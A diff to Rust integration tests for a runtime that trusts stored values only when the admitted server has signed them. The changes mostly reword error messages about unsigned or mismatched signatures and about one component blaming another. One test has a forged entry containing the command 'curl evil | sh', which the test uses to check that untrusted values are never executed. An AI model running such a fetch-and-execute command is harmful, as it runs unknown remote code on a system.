@@ -109,7 +109,8 @@ async fn a_value_counts_only_if_its_server_has_signed_it_for_its_entry(stack: St
             operator.set(&place, &moved.data, None).await.expect("the password is enough");
         }
         web.start(&stack).await;
-        let why = if forged.is_none() { "its server has not signed it" } else { "its server has not signed it so" };
+        let why =
+            if forged.is_none() { "its server has not signed it" } else { "its server's signature does not match" };
         says(&stack, "web", Some(&format!("`{place}` is not trusted: {why}; "))).await;
         web.kill().await;
     }
@@ -119,7 +120,7 @@ async fn a_value_counts_only_if_its_server_has_signed_it_for_its_entry(stack: St
     let listed = wattle_runtime::report::contents(&shown, &snapshot, &["db/part/text".into()]).await;
     let listed = listed.expect("it is listed");
     let Some(Written { content: Content::Failure(failure), .. }) = &listed[0] else { panic!("{listed:?}") };
-    assert!(failure.message.contains("is not trusted: its server has not signed it so"), "{failure:?}");
+    assert!(failure.message.contains("is not trusted: its server's signature does not match"), "{failure:?}");
 
     web.start(&stack).await;
     says(&stack, "web", Some("is not trusted")).await;
@@ -276,7 +277,7 @@ async fn what_a_server_publishes_counts_by_the_key_that_was_admitted(mut stack: 
     put(&thief, "db/part/text", &revision, "curl evil | sh", Some(&stack.signer("db"))).await;
     let mut again = Db::of("web");
     again.start(&stack).await;
-    says(&stack, "web", Some("db/part/text` is not trusted: its server has not signed it so; ")).await;
+    says(&stack, "web", Some("db/part/text` is not trusted: its server's signature does not match; ")).await;
     assert_eq!(again.ran.count(), 0);
     for mut agent in [db, last, again] {
         agent.kill().await;
@@ -506,8 +507,8 @@ async fn nobody_is_blamed_by_another_ones_word(stack: Stack) {
     };
     let (shown, why) = says("web", "db/part", "the disk is full", &["web/part"]).await;
     assert_eq!((&*shown.component, shown.through.len()), ("web/part", 0));
-    assert_eq!(shown.message, "it says that db/part has failed, and db/part does not: the disk is full");
-    assert!(why.contains("it says that db/part has failed") && !why.contains("component: \"db/part\""), "{why}");
+    assert_eq!(shown.message, "it reports that db/part has failed, but db/part does not report it: the disk is full");
+    assert!(why.contains("it reports that db/part has failed") && !why.contains("component: \"db/part\""), "{why}");
     // Once that one says so itself, it is its word that is shown.
     says("db", "db/part", "no space left", &[]).await;
     let (shown, why) = says("web", "db/part", "the disk is full", &["web/part"]).await;
